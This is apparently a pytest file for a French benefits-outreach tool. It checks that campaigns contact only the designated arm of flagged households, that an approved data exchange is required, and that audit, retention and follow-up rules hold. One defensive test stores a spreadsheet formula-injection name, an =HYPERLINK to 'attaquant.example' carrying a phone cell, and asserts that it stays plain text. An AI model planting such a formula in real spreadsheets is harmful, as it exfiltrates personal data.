"""Launching campaigns: only the contacted arm is ever contacted, always through an approved exchange."""

from __future__ import annotations

import csv
import datetime as dt
import email
import hashlib
import io
import re
import zipfile
from dataclasses import replace
from email import policy
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import polars as pl
import pytest
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session

from detection.retention import purge_flags
from outreach.errors import AlreadyLaunched, NobodyReachable, RunFlagsPurged, RunNotFound
from outreach.launch import launch_campaign, run_followups
from outreach.letters import PDF_NAME
from outreach.models import Assignment, Contact, Launch, Outcome, WorklistItem
from outreach.outcomes import record_outcome
from outreach.windows import is_allowed
from privacy.errors import ExchangeRefused
from privacy.models import AuditEntry, PersonalOutput
from tests.outreach.conftest import NOW, approve_exchange
from tests.outreach.factories import campaign_22, campaign_71, flag, flags_frame, many_flags, pseudonym

PARIS = ZoneInfo("Europe/Paris")


def _contacted(engine) -> set[str]:
    with Session(engine) as session:
        return set(session.scalars(select(Contact.id_foyer)))


def _arms(engine, launch_id: int) -> dict[str, str | None]:
    with Session(engine) as session:
        rows = session.execute(
            select(Assignment.id_foyer, Assignment.bras, Assignment.motif_exclusion).where(
                Assignment.launch_id == launch_id
            )
        ).all()
    return {f: (b or m) for f, b, m in rows}


def test_a_launch_on_households_without_contact_details_is_refused_and_can_be_made_once_they_are_imported(
    make_world,
) -> None:
    world = make_world()
    flags = pl.concat([many_flags(40), flags_frame([flag(900, opposition_contact=True)])])
    run_id = world.store_run(flags)

    with pytest.raises(NobodyReachable) as refused:
        launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    assert "aucun des 40 foyer(s) retenu(s) n'a de coordonnées utilisables" in str(refused.value)
    assert "uptake contacts import" in str(refused.value)
    with Session(world.engine) as session:
        assert session.scalars(select(Launch)).first() is None  # the run is not used up
    assert not world.out_dir.exists() or not any(world.out_dir.iterdir())

    world.store_contacts(flags["id_foyer"].to_list())
    report = launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    assert report.contactes > 0


def test_launch_contacts_only_the_contacted_arm_and_never_opposition_or_holdout(make_world) -> None:
    world = make_world()
    flags = pl.concat(
        [many_flags(120), flags_frame([flag(900, opposition_contact=True), flag(901, code_commune="75056")])]
    )
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())

    report = launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)

    arms = _arms(world.engine, report.launch_id)
    assert len(arms) == flags["id_foyer"].n_unique()
    assert arms[pseudonym(900)] == "opposition"
    assert arms[pseudonym(901)] == "hors_geographie"
    holdout = {f for f, a in arms.items() if a == "temoin"}
    contacted = {f for f, a in arms.items() if a == "contacte"}
    assert holdout and contacted
    assert _contacted(world.engine) == contacted
    assert report.contactes == len(contacted) and report.temoins == len(holdout)
    # The SMS batch holds exactly the contacted households' phone numbers.
    (sms,) = report.attempts[0].outputs
    with sms.path.open(encoding="utf-8") as handle:
        lines = list(csv.DictReader(handle, delimiter=";"))
    assert len(lines) == len(contacted)
    assert all("STOP" in line["message"] and "€" not in line["message"] for line in lines)


def test_every_output_has_its_audit_entry_with_the_file_hash(make_world) -> None:
    world = make_world()
    flags = many_flags(30, rules=("impaye_locatif", "logement_non_decent"))
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())
    report = launch_campaign(world.env, campaign_71(), run_id, out_dir=world.out_dir, now=NOW)
    outputs = [o for a in report.attempts for o in a.outputs]
    assert outputs  # call list as XLSX and CSV
    with Session(world.engine) as session:
        hashes = set(
            session.scalars(select(AuditEntry.output_sha256).where(AuditEntry.action == "sortie.ecriture"))
        )
        recorded = {p.sha256: p for p in session.scalars(select(PersonalOutput))}
    for output in outputs:
        digest = hashlib.sha256(output.path.read_bytes()).hexdigest()
        assert digest == output.sha256
        assert digest in hashes
        assert recorded[digest].retention_until <= (NOW + dt.timedelta(days=90)).date()


def test_launch_is_refused_without_an_approved_exchange_and_writes_nothing(make_world) -> None:
    world = make_world(approved=False)
    flags = many_flags(20)
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())
    with pytest.raises(ExchangeRefused):
        launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    assert not world.out_dir.exists() or not any(world.out_dir.iterdir())
    with Session(world.engine) as session:
        assert session.scalars(select(Launch)).first() is None
        assert session.scalars(select(Contact)).first() is None


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_launch_is_refused_when_the_exchange_lacks_a_field_of_the_sequence(make_world) -> None:
    world = make_world(fields=("telephone",))  # the 2.2 sequence also needs e-mail and postal address
    run_id = world.store_run(many_flags(5))
    with pytest.raises(ExchangeRefused) as refused:
        launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    assert "email" in str(refused.value)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_campaign_is_launched_once_per_detection_run(make_world) -> None:
    world = make_world()
    flags = many_flags(8)
    world.store_contacts(flags["id_foyer"].to_list())
    run_id = world.store_run(flags)
    first = launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    files = sorted(world.out_dir.iterdir())
    with pytest.raises(AlreadyLaunched) as again:
        launch_campaign(
            world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW + dt.timedelta(days=1)
        )
    assert f"lancement n°{first.launch_id}" in str(again.value) and "followup" in str(again.value)
    assert sorted(world.out_dir.iterdir()) == files
    with Session(world.engine) as session:
        assert session.scalars(select(Launch.id)).all() == [first.launch_id]
    # Another campaign on the same run is another launch.
    launch_campaign(world.env, campaign_71(), run_id, out_dir=world.out_dir, now=NOW)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_unknown_run_is_a_clear_error(make_world) -> None:
    world = make_world()
    with pytest.raises(RunNotFound):
        launch_campaign(world.env, campaign_22(), 999, out_dir=world.out_dir, now=NOW)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_run_whose_flags_were_purged_cannot_be_launched_and_the_error_says_so(
    make_world, tmp_path: Path
) -> None:
    world = make_world()
    run_id = world.store_run(flags_frame([flag(1), flag(2)]))
    with Session(world.engine) as session, session.begin():
        purge_flags(session, tmp_path, actor="dpo", now=NOW + dt.timedelta(days=400))

    with pytest.raises(RunFlagsPurged, match=rf"exécution n° {run_id} ont été supprimés le \d\d/\d\d/2027"):
        launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    with Session(world.engine) as session:
        assert session.scalars(select(Launch)).first() is None


def test_a_launch_on_a_weekend_plans_sms_and_calls_for_the_next_working_day(make_world) -> None:
    world = make_world()
    flags = flags_frame([flag(1), flag(2, canal_sms=False, canal_email=False), flag(3, "impaye_locatif")])
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())
    saturday = dt.datetime(2026, 4, 4, 10, 0, tzinfo=PARIS)  # then Easter Sunday and Easter Monday
    no_holdout = campaign_22().temoin.model_copy(update={"part": 0.0})
    launch_campaign(
        world.env, replace(campaign_22(), temoin=no_holdout), run_id, out_dir=world.out_dir, now=saturday
    )
    launch_campaign(
        world.env,
        replace(campaign_71(), temoin=no_holdout),
        run_id,
        out_dir=world.out_dir / "71",
        now=saturday,
    )
    with Session(world.engine) as session:
        contacts = session.scalars(select(Contact)).all()
        items = session.scalars(select(WorklistItem)).all()
    assert {c.canal for c in contacts} == {"sms", "appel"}
    tuesday_9 = dt.datetime(2026, 4, 7, 9, 0, tzinfo=PARIS)
    for contact in contacts:
        planned = (
            contact.prevu_le.replace(tzinfo=dt.UTC) if contact.prevu_le.tzinfo is None else contact.prevu_le
        )
        assert planned == tuesday_9
        assert is_allowed(campaign_22().fenetres, contact.canal, planned)  # type: ignore[arg-type]
    assert len(items) == 2


def test_followups_respect_delay_outcomes_and_opposition(make_world) -> None:
    world = make_world()
    flags = flags_frame([flag(i) for i in range(1, 5)])
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())
    campaign = replace(campaign_22(), temoin=campaign_22().temoin.model_copy(update={"part": 0.0}))
    report = launch_campaign(world.env, campaign, run_id, out_dir=world.out_dir, now=NOW)
    with Session(world.engine) as session, session.begin():
        record_outcome(
            session, id_foyer=pseudonym(1), resultat="joint", acteur="ts1", now=NOW + dt.timedelta(days=1)
        )
        record_outcome(
            session,
            id_foyer=pseudonym(2),
            resultat="opposition",
            acteur="ts1",
            now=NOW + dt.timedelta(days=1),
        )
        record_outcome(
            session,
            id_foyer=pseudonym(3),
            resultat="message_laisse",
            acteur="ts1",
            now=NOW + dt.timedelta(days=1),
        )

    too_early = run_followups(
        world.env, campaign, report.launch_id, out_dir=world.out_dir, now=NOW + dt.timedelta(days=3)
    )
    assert too_early == []
    later = run_followups(
        world.env, campaign, report.launch_id, out_dir=world.out_dir, now=NOW + dt.timedelta(days=7)
    )
    assert [(a.tentative, a.canal, a.foyers) for a in later] == [(2, "email", 2)]
    with Session(world.engine) as session:
        emailed = set(session.scalars(select(Contact.id_foyer).where(Contact.canal == "email")))
    assert emailed == {pseudonym(3), pseudonym(4)}
    archive = zipfile.ZipFile(io.BytesIO(later[0].outputs[0].path.read_bytes()))
    assert len(archive.namelist()) == 2
    # A follow-up is not a first contact: the long rights notice is not repeated.
    body = archive.read(archive.namelist()[0]).decode()
    assert "Subject:" in body


def test_action_71_call_list_then_questionnaire_counted_as_sent(make_world) -> None:
    world = make_world()
    flags = flags_frame(
        [flag(1, "impaye_locatif", explication="3 mois de loyer impayés"), flag(2, "logement_non_decent")]
    )
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())
    campaign = replace(campaign_71(), temoin=campaign_71().temoin.model_copy(update={"part": 0.0}))
    report = launch_campaign(world.env, campaign, run_id, out_dir=world.out_dir, now=NOW)
    xlsx = next(o for o in report.attempts[0].outputs if o.path.suffix == ".xlsx")
    sheet = openpyxl.load_workbook(xlsx.path).active
    headers = [c.value for c in sheet[1]]
    assert "Script d'appel" in headers and "Motifs" in headers
    assert any("3 mois de loyer impayés" in str(c.value) for c in sheet["K"])
    letters = run_followups(
        world.env, campaign, report.launch_id, out_dir=world.out_dir, now=NOW + dt.timedelta(days=3)
    )
    assert [(a.canal, a.foyers) for a in letters] == [("courrier", 2)]
    archive = zipfile.ZipFile(io.BytesIO(letters[0].outputs[0].path.read_bytes()))
    pdf_name, *pages = archive.namelist()
    assert pdf_name == PDF_NAME and len(pages) == 2
    html = [archive.read(name).decode() for name in pages]
    assert all("pré-diagnostic" in page for page in html)
    # The letter and its questionnaire, two pages per household, in the order of the HTML files.
    printed = [page.extract_text() for page in PdfReader(io.BytesIO(archive.read(PDF_NAME))).pages]
    assert len(printed) == 4
    for index, page in enumerate(html):
        name = re.search(r"Testnom\d+", page)
        assert name and name.group() in printed[2 * index] and "Questionnaire" in printed[2 * index + 1]
    with Session(world.engine) as session:
        sent = session.scalars(
            select(Outcome.id_foyer).where(Outcome.resultat == "questionnaire_envoye")
        ).all()
    assert sorted(sent) == [pseudonym(1), pseudonym(2)]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_household_first_reached_by_a_followup_gets_the_rights_notice(make_world) -> None:
    world = make_world()
    flags = flags_frame([flag(1)])
    run_id = world.store_run(flags)
    world.store_contacts([pseudonym(1)], telephone="04 92 75 10 20")  # a landline: no SMS possible
    campaign = replace(campaign_22(), temoin=campaign_22().temoin.model_copy(update={"part": 0.0}))
    report = launch_campaign(world.env, campaign, run_id, out_dir=world.out_dir, now=NOW)
    assert report.attempts[0].canal == "sms" and report.attempts[0].foyers == 0
    assert report.attempts[0].sans_contact_valide == 1
    later = run_followups(
        world.env, campaign, report.launch_id, out_dir=world.out_dir, now=NOW + dt.timedelta(days=8)
    )
    assert [(a.canal, a.foyers) for a in later] == [("email", 1)]
    archive = zipfile.ZipFile(io.BytesIO(later[0].outputs[0].path.read_bytes()))
    message = email.message_from_bytes(archive.read(archive.namelist()[0]), policy=policy.default)
    assert "L.114-8 II" in message.get_body(("plain",)).get_content()


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_followups_are_refused_once_the_exchange_has_expired(make_world) -> None:
    world = make_world()
    flags = flags_frame([flag(1)])
    run_id = world.store_run(flags)
    world.store_contacts([pseudonym(1)])
    report = launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    with pytest.raises(ExchangeRefused, match="expirée"):
        run_followups(
            world.env,
            campaign_22(),
            report.launch_id,
            out_dir=world.out_dir,
            now=NOW + dt.timedelta(days=400),
        )


def test_a_name_written_as_a_formula_stays_text_in_the_call_lists(make_world) -> None:
    world = make_world()
    flags = flags_frame([flag(1, "impaye_locatif")])
    run_id = world.store_run(flags)
    # A directory entry typed by a person: in Excel, this would send the row's phone away on a click.
    formula = '=HYPERLINK("https://attaquant.example/?"&F2,"Voir la fiche")'
    world.store_contacts(flags["id_foyer"].to_list(), nom=formula)
    campaign = replace(campaign_71(), temoin=campaign_71().temoin.model_copy(update={"part": 0.0}))

    report = launch_campaign(world.env, campaign, run_id, out_dir=world.out_dir, now=NOW)

    outputs = {o.path.suffix: o.path for o in report.attempts[0].outputs}
    sheet = openpyxl.load_workbook(outputs[".xlsx"]).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"  # the exact name, as text
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    rows = outputs[".csv"].read_text(encoding="utf-8")
    assert f"'{formula}".replace('"', '""') in rows and ";=HYPERLINK" not in rows
    assert ";+33612000000;" in rows  # a phone number is a signed number, not marked


def test_an_exchange_approved_for_another_recipient_is_not_taken_for_a_campaign(make_world) -> None:
    world = make_world()
    other = approve_exchange(world.engine, world.keyring, recipient="Prestataire X", purpose="essai")
    flags = flags_frame([flag(1)])
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())

    with pytest.raises(ExchangeRefused, match="plusieurs échanges approuvés pour des destinataires"):
        launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)
    named = launch_campaign(
        world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW, exchange_id=world.exchange_id
    )
    assert named.launch_id and other != world.exchange_id


def test_an_approval_renewed_for_the_same_recipient_and_purpose_is_taken_newest_first(make_world) -> None:
    world = make_world()
    renewed = approve_exchange(world.engine, world.keyring)
    flags = flags_frame([flag(1)])
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())

    launch_campaign(world.env, campaign_22(), run_id, out_dir=world.out_dir, now=NOW)

    with Session(world.engine) as session:
        used = set(session.scalars(select(PersonalOutput.exchange_id)))
    assert used == {renewed} and renewed != world.exchange_id


def test_a_launch_keeps_its_approval_for_its_follow_ups_and_call_cards(make_world) -> None:
    from uptake.web.household_card import call_authorisation

    world = make_world()
    flags = flags_frame([flag(1, "impaye_locatif"), flag(2, "logement_non_decent")])
    run_id = world.store_run(flags)
    world.store_contacts(flags["id_foyer"].to_list())
    campaign = replace(campaign_71(), temoin=campaign_71().temoin.model_copy(update={"part": 0.0}))
    report = launch_campaign(world.env, campaign, run_id, out_dir=world.out_dir, now=NOW)
    # Afterwards, the DPO approves another exchange of the same register entry, for someone else.
    approve_exchange(world.engine, world.keyring, recipient="CCAS de Manosque", purpose="visites")

    letters = run_followups(
        world.env, campaign, report.launch_id, out_dir=world.out_dir, now=NOW + dt.timedelta(days=3)
    )
    with Session(world.engine) as session:
        card, problem = call_authorisation(session, world.keyring, campaign, NOW, report.launch_id)
        used = set(session.scalars(select(PersonalOutput.exchange_id)))

    assert [(a.canal, a.foyers) for a in letters] == [("courrier", 2)]
    assert used == {world.exchange_id}
    assert problem is None and card is not None and card.exchange_id == world.exchange_id
